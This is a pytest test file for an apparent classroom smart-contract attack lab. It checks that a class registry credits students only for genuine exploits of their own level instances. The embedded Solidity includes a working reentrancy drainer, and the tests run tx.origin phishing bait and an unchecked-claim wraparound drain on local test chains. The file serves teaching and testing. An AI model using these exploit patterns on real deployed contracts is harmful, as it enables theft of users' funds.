"""Every attack-lab level as a class challenge: each student's instance counts as solved only when the class registry
validates it on chain (``LevelSolved``). An honest exploit by the student solves it; a non-solve, a fake that leaves
the same balances, someone else's submission or someone else's contract does not. The class clock moves only
through the instructor (one move at creation for the levels whose setup waits, one day for the refund waits)."""

from __future__ import annotations

import json

import pytest

import sumkit as sk
from sumkit import lab
from sumkit.classroom.room import GOALS, LEVELS
from tests.nodes import require_node

# A student's own attackers. Drainer: level own_attacker's honest solution (the registry calls attack(); the loot is
# sent on to its deployer). Hoarder: the same attack, but the loot stays in the contract. EmptyAirdrop and
# BurningAirdrop: tx_origin baits that take nothing, the second burning all the gas it is given.
SOURCE = """
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

interface ILabTrainer {
    function addData(int64[] calldata x, uint64 label) external payable returns (uint256 id);
    function refund(uint256 id) external returns (uint256 amount);
    function report(uint256 id) external returns (uint256 amount);
}

contract Drainer {
    ILabTrainer public immutable target;
    address public immutable player;
    uint256 public id;
    uint256 public deposit;

    constructor(ILabTrainer target_) { target = target_; player = msg.sender; }

    function contribute(int64[] calldata x, uint64 label) external payable {
        deposit = msg.value;
        id = target.addData{value: msg.value}(x, label);
    }

    function attack() external virtual {
        target.refund(id);
        (bool ok,) = player.call{value: address(this).balance}("");
        require(ok, "forward failed");
    }

    receive() external payable {
        if (address(target).balance >= deposit) target.refund(id);
    }
}

contract Hoarder is Drainer {
    constructor(ILabTrainer target_) Drainer(target_) {}

    function attack() external override { target.refund(id); }
}

contract EmptyAirdrop {
    function claimAirdrop() external {}
}

contract BurningAirdrop {
    uint256 public spins;

    function claimAirdrop() external { while (true) { spins += 1; } }
}
"""
NO_MODEL = "0x" + "00" * 20


@pytest.fixture(scope="module")
def room(tmp_path_factory):
    require_node()
    with sk.Classroom.start(students=["ana", "ben"], dir=tmp_path_factory.mktemp("class"), trainer=False) as started:
        yield started


@pytest.fixture(scope="module")
def players(room):
    """Ana's and Ben's chains and registry handles, and their instances: {name: (chain, registry, {level: id})}."""
    found = {}
    for name in ("ana", "ben"):
        chain = sk.Chain.join(room.join_file(name))
        info = json.loads(room.join_file(name).read_text())
        found[name] = (chain, chain.at(info["contracts"]["registry"], "ClassRegistry"), info["instances"])
    return found


@pytest.fixture(scope="module")
def compiled():
    return sk.compile_source(SOURCE)


def target(registry, id: int) -> str:
    return registry.call("instanceAt", id)["target"]


@pytest.fixture(scope="module")
def after_a_day(room, players, compiled):
    """What the students do before a refund wait, then the instructor's one-day move of the class clock."""
    ana, registry, mine = players["ana"]
    ben, _, bens = players["ben"]
    me, deposit = ana.owner, lab.DEPOSIT
    done = {}
    # own_attacker: Ana's Drainer and Hoarder each contribute good data.
    for name in ("Drainer", "Hoarder"):
        done[name] = ana.deploy(compiled[name], target(registry, mine["own_attacker"]), sender=me)
        done[name].transact("contribute", list(lab.POSITIVE), 1, sender=me, value=deposit)
    # stale_prediction, Ana: a wrong label the model learns (its verdict is stored), then the right one puts it back.
    stale = ana.at(target(registry, mine["stale_prediction"]), "StalePredictionTrainer")
    done["bad"] = stale.transact("addData", list(lab.NEGATIVE), 1, sender=me, value=deposit).output
    stale.transact("addData", list(lab.NEGATIVE), 0, sender=me, value=deposit)
    # stale_prediction, Ben: good data, honestly refunded later, then the model untrained: same balances, no solve.
    bens_stale = ben.at(target(registry, bens["stale_prediction"]), "StalePredictionTrainer")
    done["good"] = bens_stale.transact("addData", list(lab.POSITIVE), 1, sender=ben.owner, value=deposit).output
    # unchecked_take, Ana: good data, so she may report once it is refunded.
    take = ana.at(target(registry, mine["unchecked_take"]), "UncheckedTakeTrainer")
    done["own"] = take.transact("addData", list(lab.POSITIVE), 1, sender=me, value=deposit).output
    room.travel(days=1, minutes=1)
    return done


def test_every_student_gets_every_level_with_its_on_chain_goal(room, players):
    assert LEVELS == tuple(lab.levels())  # every lab level is a class challenge
    _, registry, mine = players["ana"]
    _, _, bens = players["ben"]
    assert registry.call("instanceCount") == 2 * len(LEVELS)
    for level, id in mine.items():
        instance = registry.call("instanceAt", id)
        assert (instance["student"], instance["level"], instance["goal"]) == (room.students["ana"], level, GOALS[level])
        assert not instance["solved"] and target(registry, bens[level]) != instance["target"]
    frozen = registry.call("instanceAt", mine["stale_prediction"])["frozenModel"]
    assert frozen != NO_MODEL and room.chain.at(frozen, "DensePerceptron").call("trainer") == room.registry.address
    with pytest.raises(sk.Reverted, match="NoFrozenModel"):
        room.registry.transact("createInstance", room.students["ana"], target(registry, 0), "stale_prediction", 0,
                               GOALS["stale_prediction"], NO_MODEL, sender=room.chain.owner)


def test_own_attacker_needs_your_own_contract_and_the_loot_in_your_account(room, players, compiled, after_a_day):
    ana, registry, mine = players["ana"]
    ben, bens_registry, _ = players["ben"]
    id, me = mine["own_attacker"], ana.owner
    with pytest.raises(sk.Reverted, match="SubmitAnotherWay"):
        registry.transact("submitInstance", id, sender=me)
    with pytest.raises(sk.Reverted, match="NotYourInstance"):
        bens_registry.transact("submitAttack", id, after_a_day["Drainer"].address, sender=ben.owner)
    shipped = ana.deploy("ReentrancyAttacker", target(registry, id), sender=me)
    with pytest.raises(sk.Reverted, match="NotAttacker"):  # the lab's own attacker obeys only its deployer
        registry.transact("submitAttack", id, shipped.address, sender=me)
    with pytest.raises(sk.Reverted, match="LootNotReceived"):  # emptied, but the deposits sit in the contract
        registry.transact("submitAttack", id, after_a_day["Hoarder"].address, sender=me)
    held = ana.balance(target(registry, id))
    receipt = registry.transact("submitAttack", id, after_a_day["Drainer"].address, sender=me)
    assert receipt.event("LevelSolved") == {"id": id, "student": me, "level": "own_attacker"}
    assert held == 5 * lab.DEPOSIT and ana.balance(target(registry, id)) == 0
    with pytest.raises(sk.Reverted, match="AlreadySolved"):
        registry.transact("submitAttack", id, after_a_day["Drainer"].address, sender=me)


def test_tx_origin_is_solved_only_when_the_owner_falls_for_your_own_bait(room, players, compiled):
    ana, registry, mine = players["ana"]
    ben, bens_registry, bens = players["ben"]
    id, me = mine["tx_origin"], ana.owner
    anas, bens_target = target(registry, id), target(registry, bens["tx_origin"])
    with pytest.raises(sk.Reverted, match="SubmitAnotherWay"):
        registry.transact("submitInstance", id, sender=me)
    with pytest.raises(sk.Reverted, match="NotTargetOwner"):
        registry.transact("claimAirdrop", id, sender=me)
    with pytest.raises(sk.Reverted, match="NotYourInstance"):
        bens_registry.transact("offerAirdrop", id, bens_target, sender=ben.owner)
    assert room.claim_airdrops() == {}  # nothing offered yet
    # Each failure is undone: the targets keep their deposits. Ana's owner owns only Ana's targets, so a bait aimed at
    # Ben's is refused by it (NotOwner); Ben's bait on Ana's target pays Ben, not Ana.
    bens_phisher = ben.deploy("AirdropPhisher", anas, sender=ben.owner)
    for lure, why in ((ana.deploy("AirdropPhisher", bens_target, sender=me), "NotOwner"),
                      (bens_phisher, "LootNotReceived"), (ana.deploy(compiled["EmptyAirdrop"], sender=me), "NothingSwept")):
        registry.transact("offerAirdrop", id, lure.address, sender=me)
        result = room.claim_airdrops()
        assert list(result) == ["ana"] and result["ana"].startswith(why)
        assert ana.balance(anas) == ana.balance(bens_target) == 2 * lab.DEPOSIT
    phisher = ana.deploy("AirdropPhisher", anas, sender=me)
    registry.transact("offerAirdrop", id, phisher.address, sender=me)
    before = ana.balance(me)
    assert room.claim_airdrops() == {"ana": "solved"}
    assert ana.balance(me) == before + 2 * lab.DEPOSIT and ana.balance(anas) == 0
    solved = [e for e in room.chain.logs("LevelSolved", address=room.registry.address) if e["id"] == id]
    assert [(e["student"], e["level"]) for e in solved] == [(me, "tx_origin")]
    assert room.claim_airdrops() == {}  # the offer was used up
    # The instructor's dashboard tells each bait in words: offered (and what to run), failed (and why), solved.
    dashboard = room.dashboard()
    feed = dashboard.feed.value
    dashboard.close()
    assert feed.count(f"ana offered a bait for level tx_origin (instance {id})") == 4
    assert "room.claim_airdrops() lets its owner claim it" in feed
    for why in ("NotOwner", "LootNotReceived", "NothingSwept"):
        assert f"ana&#x27;s bait did not solve level tx_origin (instance {id}), undone: {why}" in feed
    assert "ana solved level tx_origin" in feed


def test_stale_prediction_needs_bad_data_refunded(room, players, after_a_day):
    ana, registry, mine = players["ana"]
    ben, bens_registry, bens = players["ben"]
    stale = ana.at(target(registry, mine["stale_prediction"]), "StalePredictionTrainer")
    with pytest.raises(sk.Reverted, match="NotSolvedYet"):
        registry.transact("submitInstance", mine["stale_prediction"], sender=ana.owner)
    stale.transact("refund", after_a_day["bad"], sender=ana.owner)
    with pytest.raises(sk.Reverted, match="NotYourInstance"):
        bens_registry.transact("submitInstance", mine["stale_prediction"], sender=ben.owner)
    receipt = registry.transact("submitInstance", mine["stale_prediction"], sender=ana.owner)
    assert receipt.event("LevelSolved")["level"] == "stale_prediction"
    # Ben's fake: good data refunded honestly, then the model untrained so that it disagrees with it now.
    bens_stale = ben.at(target(bens_registry, bens["stale_prediction"]), "StalePredictionTrainer")
    bens_stale.transact("refund", after_a_day["good"], sender=ben.owner)
    bens_stale.transact("addData", list(lab.POSITIVE), 0, sender=ben.owner, value=lab.DEPOSIT)
    assert bens_stale.call("predict", list(lab.POSITIVE)) == 0  # the model now disagrees with his refunded data
    with pytest.raises(sk.Reverted, match="NotSolvedYet"):
        bens_registry.transact("submitInstance", bens["stale_prediction"], sender=ben.owner)


def test_unchecked_take_needs_the_claim_to_wrap_around(room, players, after_a_day):
    ana, registry, mine = players["ana"]
    ben, bens_registry, bens = players["ben"]
    take = ana.at(target(registry, mine["unchecked_take"]), "UncheckedTakeTrainer")
    with pytest.raises(sk.Reverted, match="NotSolvedYet"):
        registry.transact("submitInstance", mine["unchecked_take"], sender=ana.owner)
    take.transact("refund", after_a_day["own"], sender=ana.owner)  # now Ana has good data too
    carol = 4  # alice, bob (refunded), alice, bob, then carol's bad data
    assert take.call("contribution", carol)["contributor"] == room.chain.carol
    share = lab.DEPOSIT * take.call("numGoodData", ana.owner) // take.call("totalGoodData")
    reports = 0
    while ana.balance(take.address) >= share:
        take.transact("report", carol, sender=ana.owner)
        reports += 1
    assert reports > 3 and take.call("contribution", carol)["claimable"] > lab.DEPOSIT  # wrapped around
    with pytest.raises(sk.Reverted, match="NotYourInstance"):
        bens_registry.transact("submitInstance", mine["unchecked_take"], sender=ben.owner)
    receipt = registry.transact("submitInstance", mine["unchecked_take"], sender=ana.owner)
    assert receipt.event("LevelSolved")["level"] == "unchecked_take"
    with pytest.raises(sk.Reverted, match="NotSolvedYet"):
        bens_registry.transact("submitInstance", bens["unchecked_take"], sender=ben.owner)


def test_an_airdrop_claim_is_bounded_by_the_gas_the_bait_may_burn(compiled):
    """The worst bait burns all the gas the registry gives it (AIRDROP_GAS): the claim still ends, says why the level
    is not solved, and its gas (measured on revm) stays far below EIP-7825's cap."""
    from sumkit.chain.backends.base import TX_GAS_CAP

    chain = sk.Chain(backend="revm")
    registry = chain.deploy("ClassRegistry", chain.owner)
    level = lab.level("tx_origin", chain)
    id = registry.transact("createInstance", chain.mallory, level.contract.address, "tx_origin", level.owed,
                           GOALS["tx_origin"], NO_MODEL, sender=chain.owner).output
    lure = chain.deploy(compiled["BurningAirdrop"], sender=chain.mallory)
    registry.transact("offerAirdrop", id, lure.address, sender=chain.mallory)
    with pytest.raises(sk.Reverted, match="NotEnoughGasForClaim"):  # too little gas cannot starve the bait
        registry.transact("claimAirdrop", id, sender=level.owner, gas=registry.call("CLAIM_GAS"))
    assert registry.call("offeredAirdrop", id) == lure.address
    receipt = registry.transact("claimAirdrop", id, sender=level.owner)
    assert receipt.event("AirdropFailed")["lure"] == lure.address and "LevelSolved" not in dict(receipt.events)
    allowed = registry.call("AIRDROP_GAS")
    assert allowed < receipt.gas_used < allowed + 150_000 < TX_GAS_CAP, receipt.gas_used
    assert chain.balance(level.contract.address) == level.owed


def test_the_instructor_gives_a_student_a_fresh_instance(room, players):
    _, registry, mine = players["ben"]
    old = mine["own_attacker"]
    new = room.new_instance("ben", "own_attacker")
    assert new == registry.call("instanceCount") - 1 and new != old
    assert json.loads(room.join_file("ben").read_text())["instances"]["own_attacker"] == new
    fresh, previous = registry.call("instanceAt", new), registry.call("instanceAt", old)
    assert (fresh["student"], fresh["level"], fresh["solved"]) == (room.students["ben"], "own_attacker", False)
    assert fresh["target"] != previous["target"] and room.chain.balance(fresh["target"]) == 3 * lab.DEPOSIT
    dashboard = room.dashboard()  # the fresh instance is news; the class's first instances are its setup
    feed = dashboard.feed.value
    dashboard.close()
    assert f"the instructor gave ben a fresh instance of level own_attacker (instance {new})" in feed
    assert feed.count("a fresh instance") == 1
    with pytest.raises(ValueError, match="unknown level 'own_atacker'"):
        room.new_instance("ben", "own_atacker")
